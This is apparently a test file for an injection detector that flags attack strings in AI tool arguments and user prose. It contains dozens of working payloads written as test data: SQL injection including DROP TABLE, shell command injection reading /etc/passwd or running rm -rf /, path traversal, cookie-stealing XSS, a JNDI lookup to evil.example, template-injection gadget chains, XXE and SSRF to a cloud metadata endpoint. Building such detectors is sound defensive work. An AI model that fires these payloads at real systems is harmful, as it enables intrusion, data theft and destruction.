import { expect, test } from "bun:test";
import { expectLinear } from "../../../test/kit/expect-linear.ts";
import type { InspectionContext, Match } from "../detector.ts";
import { createSegment, type SegmentSource } from "../segment.ts";
import { injectionProtection } from "./injection-protection.ts";

const find = (text: string, source: SegmentSource = "tool_arguments", settings: object = {}) =>
  injectionProtection.prepare(settings)(
    [createSegment(text, source, { pointer: "/x" })],
    {} as InspectionContext,
  ) as Match[];
const labels = (text: string, source?: SegmentSource, settings?: object) =>
  find(text, source, settings).map(({ label }) => label);

const base64 = (text: string) => Buffer.from(text).toString("base64");

test.each([
  ["sql", "' OR 1=1 --"],
  ["sql", "admin' or 'a'='a"],
  ["sql", "1 UNION ALL SELECT NULL, NULL, version()"],
  ["sql", "1/**/UnIoN/**/SeLeCt/**/1,2,3"],
  ["sql", "x'; DROP TABLE users; --"],
  ["sql", "admin'--"],
  ["sql", "1 and (select * from (select(sleep(5)))a)"],
  ["sql", "%27%20OR%201%3D1--"],
  ["sql", "＇ ＯＲ １＝１ --"],
  ["nosql", "user[$ne]=1"],
  ["nosql", '{"$gt": ""}'],
  ["nosql", "'; return true; var x='"],
  ["command", "report.pdf; cat /etc/passwd"],
  ["command", "8.8.8.8 && whoami"],
  ["command", "x$(id)"],
  ["command", "name`id`"],
  ["path_traversal", "../../../../etc/passwd"],
  ["path_traversal", "..%2f..%2fetc%2fpasswd"],
  ["path_traversal", "%252e%252e%252fetc/passwd"],
  ["path_traversal", "..\\..\\windows\\win.ini"],
  ["xss", '"><script>alert(1)</script>'],
  ["xss", "<img src=x onerror=alert(1)>"],
  ["xss", "&lt;svg/onload=alert(1)&gt;"],
  ["xss", base64("<script>alert(document.cookie)</script>")],
  ["ldap", "*)(uid=*))(|(uid=*"],
  ["xpath", "'] | //user/*[contains(*,'"],
  ["template", "{{7*7}}"],
  ["template", `$\{jndi:ldap://evil.example/a}`],
  ["template", "{{''.__class__.__mro__[1].__subclasses__()}}"],
  ["template", "().__class__.__bases__[0]"],
  ["command", "x; `id`"],
  ["ldap", "admin)(!(uid=1)"],
  ["header", "en\\r\\nSet-Cookie: admin=1"],
  ["header", "en%0d%0aSet-Cookie: admin=1"],
  ["file_inclusion", "php://filter/convert.base64-encode/resource=index.php"],
  ["xml", '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'],
  ["ssrf", "http://169.254.169.254/latest/meta-data/"],
  ["ssrf", "http://2852039166/"],
])("in tool arguments: %s in %p", (label, text) => {
  expect(labels(text)).toContain(label);
});

test.each([
  ["sql", "log in as admin' or 'a'='a please"],
  ["sql", "try ' UNION SELECT username, password FROM users-- as the name"],
  ["command", "my file is x; rm -rf / and then print it"],
  ["path_traversal", "open ../../../etc/passwd"],
  ["xss", "my name is <script>alert(1)</script>"],
  ["template", "hello {{7*7}}"],
])("in prose: %s in %p", (label, text) => {
  expect(labels(text, "user")).toContain(label);
});

test.each([
  ["Write a query that selects users where age > 18 and status = 'active' order by name."],
  ["SELECT id FROM a WHERE x = 'y' UNION ALL SELECT id FROM b; -- both"],
  ["How does UNION SELECT work, and why is an injection dangerous in theory?"],
  ["Run `ls -la | grep foo && cat notes.txt` in the shell."],
  ["import { x } from '../../lib/x.ts'"],
  ['<script src="app.js"></script> is how pages load code.'],
  ["He said 'yes' and 'no' or \"maybe\"; select one."],
  [`The template {{ user.name }} renders the name; $\{price} is a variable.`],
  ["curl http://localhost:8080/health"],
  ["AT&T and R&D; 1 = 1 is true"],
  ['put white space between the "!" and "=" of it'],
  ["#define pre(a) (!((a) & RETURN))\n#define post(a)((a) | RETURN)"],
  ["for cls in self.__class__.__mro__: print(cls.__bases__, self.__class__.__bases__)"],
  [`message.id && \`id: $\{message.id}\``],
  ['"HTTP/1.0 200 Ok\\r\\nContent-type: text/plain\\r\\n\\r\\n"'],
  ["'Set-Cookie: fig=newton\\r\\nSet-Cookie: sugar=wafer'"],
])("prose about code is not reported: %p", (text) => {
  expect(labels(text, "user")).toEqual([]);
});

test.each([
  ["find . -name '*.ts' | xargs grep foo && echo done"],
  ["SELECT name FROM users WHERE id = 7; SELECT 2"],
  ["git log --oneline | head -5; git status"],
  ["src/policy/views/view.ts"],
  ["../lib/clock.ts"],
  ["O'Brien & Sons; 12 Main St"],
  ["if (a > 0 && b < 2) { return c; }\nif (x) delete y;"],
  ["https://example.com/search?q=a&page=2"],
])("ordinary arguments are not reported: %p", (text) => {
  expect(labels(text)).toEqual([]);
});

test("a match has its location in the original text and no content", () => {
  const text = "q=%27%20OR%201%3D1--";
  const [match] = find(text);

  expect(text.slice(match?.at?.start, match?.at?.end)).toBe("%27%20OR%201%3D1");
  expect(match).toMatchObject({ label: "sql", type: "injection" });
  expect(match?.detail).toBeUndefined();
});

test("kinds that are not listed or not enabled are not detected", () => {
  const both = "' or 'a'='a <script>alert(1)</script>";
  const only = (...predefined_injections: object[]) =>
    labels(both, "tool_arguments", { predefined_injections });

  expect(labels(both).toSorted()).toEqual(["sql", "xss"]);
  expect(only({ type: "xss" })).toEqual(["xss"]);
  expect(only({ type: "xss" }, { type: "sql", enabled: false })).toEqual(["xss"]);
});

test("a custom pattern matches encoded text and ignores case", () => {
  const custom_injections = [{ name: "ticket", pattern: "TCK-[0-9]{4}" }];

  expect(labels(`x ${base64("see tck-1234 for it")}`, "user", { custom_injections })).toEqual([
    "ticket",
  ]);
});

test("settings with an invalid pattern are rejected", () => {
  const custom_injections = [{ name: "x", pattern: "(" }];

  expect(injectionProtection.settings.safeParse({ custom_injections }).success).toBe(false);
});

test("a lower threshold reports matches in prose", () => {
  const text = "1; select pg_sleep(5)";

  expect(labels(text, "user")).toEqual([]);
  expect(labels(text, "user", { threshold: 0.3 })).toEqual(["sql"]);
});

/** Adversarial texts: near misses, repeated. */
export const ADVERSARIAL: readonly string[] = [
  "' or ",
  "' or '",
  "1 or (((1",
  "union ",
  "union/**/",
  "/**/",
  "/*",
  "' union select ",
  "';",
  "'; select ",
  "' ) ) ) ",
  "order by 1,",
  "select (",
  "(",
  "../",
  "..;",
  "..",
  "./",
  "%2e",
  "`",
  "$(",
  ")(",
  "<script ",
  "<script>",
  "<",
  "onerror=",
  " onload=\\x",
  "javascript:",
  "{{",
  "{{7*",
  "${j",
  "${lower:",
  "%0d%0a",
  "<!entity a ",
  "&a;",
  "http://1",
  "php://",
  "$where:",
  "rm -",
  "curl x ",
  "\n",
  " ",
  "a",
  "0x2e",
  "{{eval ",
  "${system",
  "<x onfocus=",
  "<x onfocus=a ",
  "'onfocus",
  "%0a",
  "etc/",
  "/etc/passwd",
  "....//",
  "..;/",
  "http://0x7f.",
  "http://[0:",
  "; w ",
  "{1*",
  "%{#a",
  "data:a;b",
];

test.each(ADVERSARIAL)("%p repeated is inspected in linear time", async (piece) => {
  const make = (length: number) => piece.repeat(length / piece.length);

  await expectLinear(find, make);
});
